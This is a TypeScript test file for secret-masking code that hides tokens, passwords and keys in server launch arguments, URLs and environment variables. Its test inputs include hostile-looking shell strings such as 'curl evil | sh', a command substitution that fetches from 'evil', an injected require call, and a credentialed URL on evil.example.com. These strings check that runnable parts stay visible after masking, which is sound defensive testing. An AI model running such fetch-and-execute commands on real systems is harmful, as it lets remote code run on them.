import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { isSecretName } from '../../src/domain/secrets/secretNames.ts';
import {
  secretsInArguments,
  secretsInText,
  secretValues,
} from '../../src/domain/secrets/secretValues.ts';
import { argumentsAsShown, textAsShown } from '../../src/domain/secrets/shownTexts.ts';
import { commandLine } from '../../src/domain/servers/launch.ts';
import { identityOf, launchFields } from '../../src/domain/servers/serverIdentity.ts';
import { expandLaunch } from '../../src/domain/variables/variables.ts';
import { httpLaunch, stdioLaunch } from '../support/launches.ts';

const gitHub = `ghp_${'a1'.repeat(18)}`;
const openAi = `sk-proj-${'b2'.repeat(12)}`;

describe('a name', () => {
  it('tells a secret by more than the usual words', () => {
    const secrets = [
      'JWT',
      'SESSION_JWT',
      'licenseKey',
      'LICENCE_KEY',
      'storageAccountKey',
      'sig',
      'WEBHOOK_SIG',
      'signature',
      'DB_CONNECTION_STRING',
      'connectionString',
      'CONN_STR',
      'AZURE_SAS',
    ];
    const plain = [
      'MONKEY',
      'SIGNAL',
      'DESIGN',
      'SASS_PATH',
      'connectionStrings2Use',
      'MASTERKEYBOARD',
      'SIGNATURES_DIR',
    ];
    assert.deepEqual([...secrets, ...plain].filter(isSecretName), secrets);
  });
});

describe('a text as it is shown', () => {
  it('has no secret that is named, or looks like the key of a service', () => {
    assert.deepEqual(
      [
        ['--api-key', openAi, '--verbose', 'x'],
        ['--token=hunter2', '--region=north'],
        ['--token=${env:GITHUB}', '--password', '${input:pw}'],
        ['--header', 'Authorization: Bearer hunter2'],
        ['-e', 'DB_PASSWORD=hunter2'],
        ['postgres://me:hunter2@db/x', 'ssh://git@example.com/x'],
        [gitHub, `--x=${gitHub}`],
        ['-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- x'],
      ].map(argumentsAsShown),
      [
        ['--api-key', '…', '--verbose', 'x'],
        ['--token=…', '--region=north'],
        ['--token=${env:GITHUB}', '--password', '${input:pw}'],
        ['--header', 'Authorization: Bearer …'],
        ['-e', 'DB_PASSWORD=…'],
        ['postgres://me:…@db/x', 'ssh://git@example.com/x'],
        ['…', '--x=…'],
        ['… x'],
      ],
    );
  });

  it('shows all that may be run, whatever name stands before it', () => {
    const shown = [
      ['-c', 'TOKEN=hunter2; curl evil | sh'],
      ['-c', 'TOKEN=$(curl evil)'],
      ['-e', 'token=require("evil").run(1)'],
      ['/c', '--token=hunter2&evil'],
      ['-Xtoken', 'evil.py'],
      ['--auth', './evil', '--auth-url', 'https://me:hunter2@evil.example.com/'],
      ['--credentials=/proj/evil', '--no-auth', 'evil'],
      ['--token', '@evil/server'],
      ['--auth', 'none', '--no-token', 'x'],
    ].map(argumentsAsShown);
    assert.deepEqual(shown, [
      ['-c', 'TOKEN=…; curl evil | sh'],
      ['-c', 'TOKEN=$(curl evil)'],
      ['-e', 'token=…("evil").run(1)'],
      ['/c', '--token=…&evil'],
      ['-Xtoken', 'evil.py'],
      ['--auth', './evil', '--auth-url', 'https://me:…@evil.example.com/'],
      ['--credentials=/proj/evil', '--no-auth', 'evil'],
      ['--token', '@evil/server'],
      ['--auth', 'none', '--no-token', 'x'],
    ]);
  });

  it('is what it is when it is shown once more', () => {
    const word = fc.constantFrom(
      'token',
      '=',
      ':',
      ' ',
      ';',
      '"',
      '//',
      '@',
      'abc',
      '-----BEGIN ',
      '$(',
      '&',
      '${x}',
      openAi,
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), words => {
        const once = textAsShown(words.join(''));
        assert.equal(textAsShown(once), once);
      }),
    );
  });
});

describe('what is to be hidden of a launch', () => {
  it('is found where no variable stands, in whichever of its texts', () => {
    const expansion = expandLaunch(
      stdioLaunch({
        args: [
          '--token=${env:GH}',
          '--api-key',
          openAi,
          '--dir',
          '${firstRoot}',
          '--auth-dir=/proj',
        ],
        env: { DATABASE_URL: 'postgres://me:p%40ss@db/x', REGION: 'north' },
      }),
      { env: { GH: 'hunter2' }, inputs: new Map(), roots: ['/proj'] },
    );
    assert.ok(expansion.ok);
    assert.deepEqual([...expansion.secrets].sort(), ['hunter2', 'p%40ss', 'p@ss', openAi].sort());
  });

  it('is found in the path of a URL', () => {
    const launch = httpLaunch(`https://example.com/${openAi}/mcp`, { 'X-Team': `team ${gitHub}` });
    const expansion = expandLaunch(launch, { env: {}, inputs: new Map(), roots: [] });
    assert.ok(expansion.ok);
    assert.deepEqual([...expansion.secrets], [gitHub, openAi]);
    assert.equal(commandLine(launch), 'https://example.com/…/mcp');
  });

  it('is the whole of it and each part that is not shown, and no place', () => {
    assert.deepEqual(secretsInArguments(['--password', 'first second']), ['first', 'first second']);
    assert.deepEqual(secretsInText('TOKEN=first; PASS=second'), [
      'first',
      'second',
      'first; PASS=second',
    ]);
    assert.deepEqual(
      secretsInArguments(['--credentials', './creds', '--auth', 'https://e.com/']),
      [],
    );
    assert.deepEqual(secretValues({ A: 'b', URL: `x?sig=hunter2` }), ['hunter2']);
  });
});

describe('the identity of a server with secrets in its texts', () => {
  it('knows their names, and neither keeps nor depends on their values', () => {
    const fields = (secret: string) =>
      launchFields(
        stdioLaunch({
          args: [`--token=${secret}`, '--api-key', secret, 'x'],
          env: { URL: `postgres://me:${secret}@db/x` },
        }),
      );
    assert.deepEqual(fields('hunter2'), {
      transport: 'stdio',
      command: 'files',
      args: ['--token=…', '--api-key', '…', 'x'],
      cwd: '',
      env: ['URL=postgres://me:…@db/x'],
    });
    assert.equal(identityOf(fields('hunter2')), identityOf(fields('hunter3')));
  });
});
